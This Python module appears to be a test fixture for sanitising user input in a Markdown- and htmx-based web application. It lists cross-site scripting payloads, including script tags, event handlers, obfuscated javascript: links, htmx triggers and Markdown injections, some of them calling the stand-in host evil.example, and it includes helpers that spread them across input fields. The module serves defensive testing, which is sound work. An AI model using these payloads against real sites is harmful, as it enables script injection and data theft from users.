"""Texts that would act if a page let them: scripts, handlers, links, Markdown, and attributes that htmx obeys.

What acts would show a dialog, ask evil.example, or fetch an address with `fiende` in it.
"""

from __future__ import annotations

from collections.abc import Iterator

SCRIPTS = (
    "<script>alert(1)</script>", "<SCRIPT SRC=https://evil.example/x.js></SCRIPT>",
    "</title><script>alert(1)</script>", "</textarea><script>alert(1)</script>", "</script><script>alert(1)</script>",
    "--><script>alert(1)</script>", "<scr<script>ipt>alert(1)</scr</script>ipt>", "<script/src=//evil.example/x.js>",
    "<<script>alert(1);//<</script>", "<script\x0ctype=text/javascript>alert(1)</script>",
    "<svg><script>alert&lpar;1)</script></svg>", '\'"><script>alert(1)</script>', "]]><script>alert(1)</script>",
    "＜script＞alert(1)＜/script＞", "<script>fetch('https://evil.example/')</script>",
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
)  # fmt: skip
HANDLERS = (
    "<img src=x onerror=alert(1)>", '"><img src=x onerror=alert(1)>', "'><img src=x onerror=alert(1)>",
    "<svg onload=alert(1)>", "<svg/onload=alert(1)//", "<body onload=alert(1)>", '" onmouseover=alert(1) x="',
    "' onfocus=alert(1) autofocus '", '" autofocus onfocus=alert(1) "', "<input autofocus onfocus=alert(1)>",
    "<details open ontoggle=alert(1)>", "<video><source onerror=alert(1)>", "<audio src=x onerror=alert(1)>",
    "<marquee onstart=alert(1)>", "<select autofocus onfocus=alert(1)>", "<textarea autofocus onfocus=alert(1)>",
    "<style onload=alert(1)></style>", "<iframe srcdoc='<script>parent.alert(1)</script>'>",
    "<img/src=`x`/onerror=alert(1)>", "<img src=x:alert(alt) onerror=eval(src) alt=1>",
    "<p onpointerrawupdate=alert(1)>x", "<div style=animation-name:x onanimationstart=alert(1)>",
    "<a onbeforetoggle=alert(1) popover id=p>x</a>", "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<math><maction actiontype=statusline xlink:href=javascript:alert(1)>",
    "<form><button formaction=javascript:alert(1)>x", "<img src=x onerror=\u2028alert(1)>", "\xa0onload=alert(1)//",
)  # fmt: skip
LOADING = (
    "<img src=https://evil.example/pixel.png>", "<link rel=stylesheet href=https://evil.example/x.css>",
    "<base href=https://evil.example/>", "<meta http-equiv=refresh content='0;url=https://evil.example/'>",
    "<iframe src=https://evil.example/></iframe>", "<object data=https://evil.example/x></object>",
    "<embed src=https://evil.example/x>", "<video poster=https://evil.example/x.png>",
    "<style>@import'//evil.example/'</style>", '<p style="background:url(https://evil.example/x.png)">x</p>',
    "<svg><use href=https://evil.example/x.svg#x>", "<svg><image href=https://evil.example/x.png>",
    "<link rel=prefetch href=//evil.example/>", "<img srcset=//evil.example/x>",
    "<picture><source srcset=https://evil.example/x><img></picture>", "<input type=image src=//evil.example/x>",
    "<table background=//evil.example/x>",
    '<script type=speculationrules>{"prefetch":[{"urls":["/fiende"]}]}</script>', "<portal src=/fiende>",
    "<form action=https://evil.example/ id=f></form><button form=f>x</button>",
)  # fmt: skip
OBEYED = (
    "<div hx-get=/fiende hx-trigger=load>x</div>", "<div data-hx-get=/fiende data-hx-trigger=load>x</div>",
    '" hx-get=/fiende hx-trigger=load x="', "' hx-get='/fiende' hx-trigger='load' '", "<p hx-on:load=alert(1)>x</p>",
    "<p hx-on::load=alert(1)>x</p>", "<p hx-on:htmx:after:init=alert(1)>x", "<p data-hx-on-load=alert(1)>x</p>",
    "<b hx-post=/fiende hx-trigger=revealed>x</b>", "<b hx-delete=/fiende hx-trigger='every 1ms'>x</b>",
    "<b hx-get=/fiende hx-trigger='intersect once'>x</b>", "<body hx-boost=true hx-target=body>",
    "<i hx-vals='js:{a:alert(1)}' hx-get=/fiende hx-trigger=load>x</i>", "<i hx-headers='js:{a:alert(1)}'>x</i>",
    "<i hx-action=/fiende hx-method=get hx-trigger=load>x</i>", "<hx-partial hx-target=body>x</hx-partial>",
    "<template hx-get=/fiende hx-trigger=load></template>", "<a hx-get=/fiende hx-trigger=load href=#>x</a>",
    "<i hx-ext=sse sse-connect=/fiende>x</i>", "<i hx-preload=load href=/fiende>x</i>",
    "<p data-seconds=1 data-put=bold>x</p>", "<form data-autosave=/fiende><input name=seen></form>",
    "<dialog id=kvar data-check=/fiende data-extend=/fiende>", "<i hx-get=/fiende hx-trigger='load[alert(1)]'>x</i>",
    '<i hx-config=\'{"eval":true}\'>x</i>',
)  # fmt: skip
LINKS = (
    "javascript:alert(1)", "JaVaScRiPt:alert(1)", "java\tscript:alert(1)", " javascript:alert(1)",
    "javascript&colon;alert(1)", "javascript&#58;alert(1)", "&#106;avascript:alert(1)", "\x01javascript:alert(1)",
    "vbscript:msgbox(1)", "data:text/html,<script>alert(1)</script>",
    "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==", "//evil.example/a", "/\\evil.example",
    "\\\\evil.example", "https:evil.example", "https://a.example@evil.example/", "blob:https://evil.example/x",
    "feed:javascript:alert(1)", "view-source:javascript:alert(1)", "javascript://%0aalert(1)",
    "https://evil.example\\@a.example", "tel:javascript:alert(1)", "mailto:x?body=<script>alert(1)</script>",
    "//\tevil.example",
)  # fmt: skip
MARKDOWN = (
    "[x](javascript:alert(1))", "[x](<javascript:alert(1)>)", "[x](JaVaScRiPt&colon;alert(1))",
    "![x](https://evil.example/p.png)", "![x](javascript:alert(1))", '![" onerror=alert(1) x="](x)',
    '[x](https://a.example "onmouseover=alert(1)")', '[x](https://a.example \'"onmouseover=alert(1) x="\')',
    "<javascript:alert(1)>", '<https://evil.example/"onmouseover=alert(1)>', "[x]: javascript:alert(1)",
    "[x][javascript:alert(1)]", "[![x](https://evil.example/p.png)](javascript:alert(1))",
    "```<script>alert(1)</script>```", "`<img src=x onerror=alert(1)>`", "~~~html onload=alert(1)",
    "[<img src=x onerror=alert(1)>](/x)", "![](bild:../../fiende)", "![x](bild:javascript:alert(1))",
    "\ue000abababababababababababababababab\ue001", "{% raise x %} {{ 7*7 }}",
    "[x](data:text/html,<script>alert(1)</script>)", "*<svg onload=alert(1)>*", "| <img src=x onerror=alert(1)> |",
    "# <script>alert(1)</script>", "> <iframe src=//evil.example>", "&lt;script&gt;alert(1)&lt;/script&gt;",
    '<!--<img src="--><img src=x onerror=alert(1)>', "[a](/x){hx-get=/fiende hx-trigger=load}",
    "[a](/x){: onclick=alert(1)}", "[^1]: <script>alert(1)</script>", "www.evil.example/<b onclick=alert(1)>",
)  # fmt: skip
ALL = (*SCRIPTS, *HANDLERS, *LOADING, *OBEYED, *LINKS, *MARKDOWN)
SHAPES = (
    "{0}", "Ord {0} ord", "- {0}", "## {0}", "> {0}", "`{0}`", "<{0}>", "**{0}**", "[{0}](https://a.example)",
    "[ord]({0})", "[ord](<{0}>)", "![{0}](https://evil.example/p.png)", "![ord]({0})",
    '[ord](https://a.example "{0}")', "| {0} | ord |\n|---|---|\n| ord | {0} |",
)  # fmt: skip
"""Where in Markdown a text may stand."""


class Dealer:
    """Deals texts out to fields, as many to each as it holds, again and again from the beginning."""

    def __init__(self, texts: list[str]):
        self.texts, self.rounds, self._at = texts, 0, 0

    def line(self, most: int) -> str:
        """The next texts that go on one line of so many signs."""
        dealt: list[str] = []
        while True:
            text = " ".join(self.texts[self._at].split())[: most - 1]
            if dealt and len(" ".join((*dealt, text))) > most:
                return " ".join(dealt)
            dealt.append(text or "x")
            self._at += 1
            if self._at == len(self.texts):
                self._at, self.rounds = 0, self.rounds + 1


def bodies(texts: list[str], most: int) -> Iterator[str]:
    """All texts in all shapes of Markdown, in pieces of so many signs at the most."""
    piece: list[str] = []
    size = 0
    for text in texts:
        plain = " ".join(text.split())
        for shape in SHAPES if plain else ():
            made = shape.format(plain if len(shape) > 3 else text)
            if size + len(made) + 2 > most:
                yield "\n\n".join(piece)
                piece, size = [], 0
            piece.append(made)
            size += len(made) + 2
    yield "\n\n".join(piece)
